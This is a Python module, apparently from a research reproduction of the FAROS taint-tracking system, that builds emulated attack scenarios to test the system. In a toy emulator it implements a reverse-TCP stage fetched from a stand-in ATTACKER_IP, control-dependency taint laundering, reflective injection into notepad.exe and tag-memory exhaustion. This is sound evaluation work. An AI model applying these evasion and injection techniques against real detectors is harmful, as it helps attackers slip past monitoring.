@@ -1,0 +1,230 @@
+"""Evasion techniques against FAROS itself (§VI-D).
+
+The paper is explicit that a FAROS-aware attacker has options, and
+names two; both are implemented here so the E12 experiments can measure
+them:
+
+* **taint laundering via control dependencies** -- "a dedicated attack
+  could copy data bit-by-bit using an if statement in a for loop ...
+  the output would be identical to the input but would be untainted."
+  :func:`build_laundering_attack_scenario` is the reverse_tcp-style
+  self-injection with the stage copied through exactly that loop.
+  Default FAROS misses it; the policy update the paper anticipates
+  (enabling scoped control-dependency propagation) catches it again.
+
+* **tag-memory exhaustion** -- "an evasion technique could leverage
+  this design to exhaust FAROS' memory."
+  :func:`build_tag_pressure_scenario` is a guest that manufactures
+  provenance pressure: a stream of distinct file versions and network
+  flows, each of which mints a fresh tag-map entry.
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    ATTACKER_IP,
+    ATTACKER_PORT,
+    FIRST_EPHEMERAL_PORT,
+    GUEST_IP,
+    assemble_image,
+    recv_exact_asm,
+)
+from repro.attacks.metasploit import AttackScenario, _injector_asm
+from repro.attacks.payloads import (
+    PAYLOAD_ENTRY_OFFSET,
+    build_popup_payload,
+    build_scanner_payload,
+)
+from repro.emulator.devices import Packet
+from repro.emulator.record_replay import PacketEvent, Scenario
+from repro.guestos import layout
+
+
+def _laundering_injector_asm(payload_size: int) -> str:
+    """Self-injection whose stage copy goes through the Fig. 2 launderer."""
+    return f"""
+    start:
+        movi r0, SYS_SOCKET
+        syscall
+        mov r7, r0
+        mov r1, r7
+        movi r2, attacker_ip
+        movi r3, {ATTACKER_PORT}
+        movi r0, SYS_CONNECT
+        syscall
+{recv_exact_asm("r7", "stage_buf", payload_size, "stage")}
+        movi r1, {payload_size}
+        movi r2, PERM_RWX
+        movi r0, SYS_ALLOC
+        syscall
+        mov r6, r0
+        ; ---- the §VI-D launderer: copy bit-by-bit through branches ----
+        movi r1, stage_buf
+        mov r2, r6
+        movi r3, {payload_size}
+    louter:
+        ldb r4, [r1]
+        movi r5, 1
+    lbit:
+        and r0, r4, r5
+        cmpi r0, 0
+        jz lskip
+        ldb r0, [r2]
+        or r0, r0, r5
+        stb [r2], r0
+    lskip:
+        shli r5, r5, 1
+        cmpi r5, 256
+        jnz lbit
+        addi r1, r1, 1
+        addi r2, r2, 1
+        subi r3, r3, 1
+        cmpi r3, 0
+        jnz louter
+        ; ---- run the laundered (identical, untainted) stage ----
+        addi r6, r6, {PAYLOAD_ENTRY_OFFSET}
+        callr r6
+        hlt
+    attacker_ip: .asciz "{ATTACKER_IP}"
+    stage_buf: .space {payload_size}
+    """
+
+
+def build_laundering_attack_scenario() -> AttackScenario:
+    """The §VI-D control-dependency laundering attack."""
+    stage = build_popup_payload(layout.HEAP_BASE)
+    payload = stage.code
+
+    def setup(machine) -> None:
+        machine.kernel.register_image(
+            "launder_client.exe", assemble_image(_laundering_injector_asm(len(payload)))
+        )
+        machine.kernel.spawn("launder_client.exe")
+
+    events = [
+        (
+            20_000,
+            PacketEvent(
+                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
+            ),
+        )
+    ]
+    return AttackScenario(
+        scenario=Scenario(
+            name="laundering_attack",
+            setup=setup,
+            events=events,
+            max_instructions=1_200_000,
+        ),
+        client_process="launder_client.exe",
+        target_process="launder_client.exe",
+        payload_size=len(payload),
+        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
+        module="control_dep_laundering",
+    )
+
+
+def build_stub_scanner_attack_scenario() -> AttackScenario:
+    """Reflective injection whose stage resolves APIs by scanning kernel
+    code rather than reading the export table (the ROP-style §VI-B
+    evasion).  The delivery chain is the standard netflow injection into
+    notepad.exe; only the resolution step differs."""
+    from repro.attacks.common import PAYLOAD_BASE, benign_host_asm
+
+    stage = build_scanner_payload(PAYLOAD_BASE)
+    payload = stage.code
+
+    def setup(machine) -> None:
+        machine.kernel.register_image(
+            "notepad.exe", assemble_image(benign_host_asm("notepad.exe up"))
+        )
+        machine.kernel.spawn("notepad.exe")
+        machine.kernel.register_image(
+            "inject_client.exe",
+            assemble_image(_injector_asm(len(payload), "notepad.exe")),
+        )
+        machine.kernel.spawn("inject_client.exe")
+
+    events = [
+        (
+            20_000,
+            PacketEvent(
+                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
+            ),
+        )
+    ]
+    return AttackScenario(
+        scenario=Scenario(
+            name="stub_scanner_attack",
+            setup=setup,
+            events=events,
+            max_instructions=500_000,
+        ),
+        client_process="inject_client.exe",
+        target_process="notepad.exe",
+        payload_size=len(payload),
+        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
+        module="stub_scanner",
+    )
+
+
+def build_tag_pressure_scenario(file_rounds: int = 40, flows: int = 20) -> Scenario:
+    """A guest that mints tag-map entries as fast as it can.
+
+    Every ``NtWriteFile`` access bumps the file's version and every
+    distinct version is a fresh file tag; every inbound flow is a fresh
+    netflow tag.  The E12 experiment measures map growth against the
+    16-bit index ceiling.
+    """
+    source = f"""
+    start:
+        movi r1, path
+        movi r0, SYS_CREATE_FILE
+        syscall
+        mov r7, r0
+        movi r6, {file_rounds}
+    churn:
+        mov r1, r7
+        movi r2, blob
+        movi r3, 8
+        movi r0, SYS_WRITE_FILE
+        syscall
+        subi r6, r6, 1
+        cmpi r6, 0
+        jnz churn
+        ; now sit listening so every probe flow reaches us
+        movi r0, SYS_SOCKET
+        syscall
+        mov r7, r0
+        mov r1, r7
+        movi r2, 7000
+        movi r0, SYS_LISTEN
+        syscall
+    drain:
+        mov r1, r7
+        movi r0, SYS_ACCEPT
+        syscall
+        jmp drain
+    path: .asciz "C:\\\\churn.dat"
+    blob: .ascii "AAAABBBB"
+    """
+
+    def setup(machine) -> None:
+        machine.kernel.register_image("pressure.exe", assemble_image(source))
+        machine.kernel.spawn("pressure.exe")
+
+    events = [
+        (
+            30_000 + i * 2_000,
+            PacketEvent(
+                Packet(ATTACKER_IP, 10_000 + i, GUEST_IP, 7000, b"\xcc" * 16)
+            ),
+        )
+        for i in range(flows)
+    ]
+    return Scenario(
+        name="tag_pressure",
+        setup=setup,
+        events=events,
+        max_instructions=600_000,
+    )
